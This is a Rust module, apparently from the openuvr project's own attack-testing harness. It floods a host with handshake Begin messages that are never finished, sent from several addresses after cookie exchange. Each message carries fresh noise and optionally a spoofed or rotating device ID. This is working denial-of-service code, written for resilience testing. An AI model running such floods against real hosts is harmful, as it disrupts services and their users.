//! Begins of handshakes that nobody finishes, from several addresses, each of which has shown that it
//! receives: what makes a host work.

use std::io;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use openuvr_proto::control::handshake::{ClientHandshake, Trust};
use openuvr_proto::control::identity::{ClientId, DeviceName, Identity};
use openuvr_proto::control::pairing::Pin;
use openuvr_proto::time;

use super::Attack;

/// Whom they claim to be.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Claim {
    /// Somebody who wants to pair.
    Pairing,
    /// The device with this id, which anybody on the way can read.
    Device(ClientId),
    /// A device that was never here, another one each time.
    Stranger,
}

/// A cookie is good for 8 s at least.
const SHOWN_FOR: Duration = Duration::from_secs(4);

/// How long a host's challenge is waited for.
const TIMEOUT: Duration = Duration::from_millis(20);

// Places in a Begin (`crates/proto/src/control/handshake/layout.rs`).
const ID: usize = 52;
const NOISE: usize = 101;

/// The attack.
pub struct Begins {
    senders: Vec<Sender>,
    claim: Claim,
}

struct Sender {
    socket: UdpSocket,
    begin: Option<Vec<u8>>,
    shown: Instant,
}

impl Begins {
    /// From these addresses of this machine to a host.
    ///
    /// # Errors
    /// The system's, if one of the addresses is not this machine's.
    pub fn open(
        host: SocketAddr,
        from: impl IntoIterator<Item = IpAddr>,
        claim: Claim,
    ) -> io::Result<Begins> {
        let sender = |from| {
            let socket = UdpSocket::bind(SocketAddr::new(from, 0))?;
            socket.connect(host)?;
            socket.set_read_timeout(Some(TIMEOUT))?;
            Ok(Sender {
                socket,
                begin: None,
                shown: Instant::now(),
            })
        };
        let senders = from.into_iter().map(sender).collect::<io::Result<_>>()?;
        Ok(Begins { senders, claim })
    }
}

/// Whether the host answers somebody who greets it.
///
/// # Errors
/// The system's.
pub fn answers(host: SocketAddr) -> io::Result<bool> {
    let mut begins = Begins::open(host, [host.ip()], Claim::Stranger)?;
    let sender = &mut begins.senders[0];
    Ok((0..GREETINGS).any(|_| sender.show(Claim::Stranger).is_ok()))
}

/// How often a host is greeted before it is taken for silent: a second.
const GREETINGS: u32 = 50;

impl Attack for Begins {
    fn strike(&mut self, n: u64) -> io::Result<()> {
        let all = self.senders.len() as u64;
        let index = usize::try_from(n % all.max(1)).unwrap_or(0);
        let sender = &mut self.senders[index];
        if sender.begin.is_none() || sender.shown.elapsed() >= SHOWN_FOR {
            sender.show(self.claim)?;
        }
        let Some(begin) = &mut sender.begin else {
            return Err(io::ErrorKind::NotConnected.into());
        };
        // A new one each time: a repeated one is answered without work.
        begin[NOISE..NOISE + 8].copy_from_slice(&n.to_le_bytes());
        if self.claim == Claim::Stranger {
            begin[ID..ID + 8].copy_from_slice(&n.to_le_bytes());
        }
        sender.socket.send(begin).map(drop)
    }
}

impl Sender {
    /// Has the host hand out a cookie.
    fn show(&mut self, claim: Claim) -> io::Result<()> {
        let now = time::Instant(0);
        let trust = match claim {
            Claim::Pairing => Trust::Pin(Pin::generate().map_err(io::Error::other)?),
            Claim::Device(_) | Claim::Stranger => {
                let nobody = Identity::generate().map_err(io::Error::other)?;
                Trust::Known(nobody.public())
            }
        };
        let identity = Identity::generate().map_err(io::Error::other)?;
        let name = DeviceName::default();
        let mut client =
            ClientHandshake::new(now, &identity, name, trust).map_err(io::Error::other)?;
        let hello = client.poll_transmit(now).unwrap_or_default();
        self.socket.send(&hello)?;
        let mut reply = [0; 2048];
        // What came for the Begins before lies in front of it.
        loop {
            let length = self.socket.recv(&mut reply)?;
            client
                .handle_datagram(now, &reply[..length])
                .map_err(io::Error::other)?;
            let Some(mut begin) = client.poll_transmit(now) else {
                continue;
            };
            if let Claim::Device(id) = claim {
                begin[ID..ID + id.0.len()].copy_from_slice(&id.0);
            }
            self.begin = Some(begin);
            self.shown = Instant::now();
            return Ok(());
        }
    }
}
